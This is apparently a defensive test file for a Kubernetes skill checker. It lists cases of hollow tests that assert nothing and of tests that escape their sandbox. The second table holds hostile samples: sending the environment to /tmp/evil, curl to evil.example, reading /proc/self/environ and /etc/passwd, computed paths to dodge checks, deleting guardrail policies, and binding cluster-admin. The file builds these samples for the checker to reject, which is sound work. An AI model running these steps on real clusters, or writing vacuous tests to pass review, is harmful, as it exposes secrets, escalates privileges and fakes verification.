"""Tests of skills that test nothing, and tests that reach for more than they are given."""

# ruff: noqa: E501  # a table reads better with a row on a line

from __future__ import annotations

from dataclasses import replace

from tests.attacks.table import attack
from tests.attacks.thing import HEAD
from tests.attacks.world import Scene, skill_with

# -- tests that test nothing -----------------------------------------------------------------------

_CM = "apiVersion: v1\n          kind: ConfigMap\n          metadata: {name: ($values.name)}\n"
_FULL = (
    "    - assert:\n        timeout: 5s\n        resource:\n          "
    + _CM
    + "          data: {LEVEL: info}\n"
)
_HASTY = _FULL.replace("5s", "1s")


def _test(steps: str, spec: str = "") -> str:
    return HEAD.replace("  steps:\n", f"{spec}  steps:\n") % "thing" + steps


_OTHER = (
    "    - {op}:\n        resource:\n          apiVersion: v1\n          kind: ConfigMap\n"
    "          metadata: {{name: {name}}}\n"
)
_ALL = "    - assert: {file: manifests/*.yaml}\n"
for _name, _tries, _by, _words, _text in [
    ("skip", "a test that says skip", "behaviour", "proves nothing", _test(_FULL, "  skip: true\n")),
    ("no-assert", "a test without any assertion", "behaviour", "asserts nothing", _test("")),
    ("there-anyway", "an assertion of what is in every namespace", "control", "without any",
     _test(_OTHER.format(op="assert", name="kube-root-ca.crt, namespace: kube-system"))),
    ("own-object", "an assertion of an object that the test made itself", "control", "without any",
     _test(_OTHER.format(op="apply", name="own") + _OTHER.format(op="assert", name="own"))),
    ("absent", "a test that only says what must not be there", "control", "without any",
     _test(_OTHER.format(op="error", name="nothing-of-that-name"))),
    ("there", "a test that only sees that something is there", "control", "noticed",
     _test("    - assert:\n        resource:\n          " + _CM)),
    ("tautology", "a condition that is always true", "control", "noticed",
     _test("    - assert:\n        resource:\n          " + _CM + "          (data || `true`): {}\n".replace("{}", "{(`1`): 1}"))),
    ("only-in-catch", "assertions only where they are never reached", "behaviour", "not supported",
     _test("    catch:\n" + _FULL)),
    ("painted-over", "a patch that writes over the fault before it is looked for", "control", "without any",
     _test(_FULL.replace("assert", "apply") + _FULL)),
        ("waits", "a wait for what is not there", "behaviour", "not found",
     _test("    - wait: {apiVersion: v1, kind: ConfigMap, name: never, timeout: 1000h, for: {condition: {name: Ready}}}\n" + _FULL)),
    ("against-itself", "the manifests held against themselves", "control", "without any", _test(_ALL)),
    ("own-values", "bindings in place of the values", "behaviour", "kube-root-ca.crt",
     _test(_HASTY, "  bindings: [{name: values, value: {name: kube-root-ca.crt}}]\n")),
    ("namespace-name", "a test that only looks at its namespace", "control", "without any",
     _test("    - assert:\n        resource:\n          apiVersion: v1\n          kind: Namespace\n          metadata: {name: ($namespace)}\n")),
    ("deletes-first", "everything deleted, and then the absence asserted", "control", "without any",
     _test("    - delete: {ref: {apiVersion: v1, kind: ConfigMap, name: ($values.name)}}\n" + _OTHER.format(op="error", name="($values.name)"))),
    ("steps", "more steps than anybody runs", "behaviour", "at most", _test(_FULL + "  - try: [{sleep: {duration: 1ms}}]\n" * 100)),
]:  # fmt: skip
    attack("tests", _tries, by=_by, words=_words, called=_name)(skill_with(test=_text))


def _sleeps(scene: Scene) -> int:
    scene.settings = replace(scene.settings, test_seconds=1.0)
    return scene.bring(test=_test("    - sleep: {duration: 1000h}\n" + _FULL), released=False)


attack(
    "tests", "a test that sleeps for ever", by="behaviour", words="time was up", called="sleeps"
)(_sleeps)

# -- tests that reach out --------------------------------------------------------------------------

_POLICY = "apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingAdmissionPolicy"
for _name, _tries, _by, _words, _op in [
    ("script", "a shell script", "scripts", "only a person", "script: {content: 'env > /tmp/evil'}"),
    ("command", "a program", "scripts", "only a person", "command: {entrypoint: curl, args: [evil.example]}"),
    ("script-case", "a shell script in capitals", "scripts", "only a person", "Script: {content: id}"),
    ("proxy", "a request through the API server's proxy", "behaviour", "proxy",
     "proxy: {apiVersion: v1, kind: Service, name: kubernetes, targetPath: /}"),
    ("pod-logs", "the logs of any pod", "behaviour", "podLogs", "podLogs: {namespace: kube-system}"),
    ("url", "a manifest from elsewhere", "behaviour", "remote",
     "apply: {file: 'https://evil.example/a.yaml'}"),
    ("absolute", "a file of the machine", "behaviour", "below the test's folder",
     "assert: {file: /proc/self/environ}"),
    ("climbing", "a file above its folder", "behaviour", "below the test's folder",
     "assert: {file: ../../../../../../etc/passwd}"),
    ("computed", "a file name that is computed, to get past the check", "behaviour", "below the test's folder",
     "assert: {file: \"(join('/', ['..', '..', 'canary']))\"}"),
    ("env", "the environment by a function", "behaviour", "env",
     "assert: {resource: {apiVersion: v1, kind: ConfigMap, metadata: {name: (env('TIPHYS_ATTACK_CANARY'))}}}"),
    ("selector", "flags for kubectl in a selector", "behaviour", "selector",
     "wait: {apiVersion: v1, kind: Pod, selector: '--kubeconfig=/tmp/x', timeout: 1s, for: {deletion: {}}}"),
    ("rule-deleted", "a guardrail deleted before it is asked", "form", "must not touch",
     f"delete: {{ref: {{{_POLICY}, name: tiphys-pod-security}}}}"),
    ("rule-made", "a rule that refuses faults before the test has to", "form", "must not touch",
     f"apply: {{resource: {{{_POLICY}, metadata: {{name: evil}}, spec: {{}}}}}}"),
    ("kind-computed", "a kind that is computed, to get past the check", "form", "write the kind out",
     "delete: {ref: {apiVersion: v1, kind: \"(join('', ['No', 'de']))\", name: node-0}}"),
    ("namespace-opened", "a namespace opened for privileged pods", "form", "must not touch a Namespace",
     "patch: {resource: {apiVersion: v1, kind: Namespace, metadata: {name: ($namespace), labels: {pod-security.kubernetes.io/enforce: privileged}}}}"),
    ("admin", "a binding to cluster-admin inside of the sandbox", "form", "must not touch a ClusterRoleBinding",
     "apply: {resource: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRoleBinding, metadata: {name: evil}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}}}"),
    ("system-role-deleted", "a role of the cluster itself deleted", "form", "must not touch",
     "delete: {ref: {apiVersion: rbac.authorization.k8s.io/v1, kind: ClusterRole, name: 'system:controller:job-controller'}}"),
    ("namespace-deleted", "another namespace deleted", "form", "must not touch",
     "delete: {ref: {apiVersion: v1, kind: Namespace, name: kube-node-lease}}"),
    ("exempted", "its namespace freed of the guardrails", "form", "must not touch a Namespace",
     "patch: {resource: {apiVersion: v1, kind: Namespace, metadata: {name: ($namespace), labels: {tiphys.guardrails/exempt: yes-please}}}}"),
    ("elsewhere", "an object written to the cluster's own namespace", "form", "its own namespace",
     "apply: {resource: {apiVersion: v1, kind: ConfigMap, metadata: {name: evil, namespace: kube-system}}}"),
]:  # fmt: skip
    attack("reach", _tries, by=_by, words=_words, called=_name)(
        skill_with(test=_test(f"    - {_op}\n" + _FULL))
    )
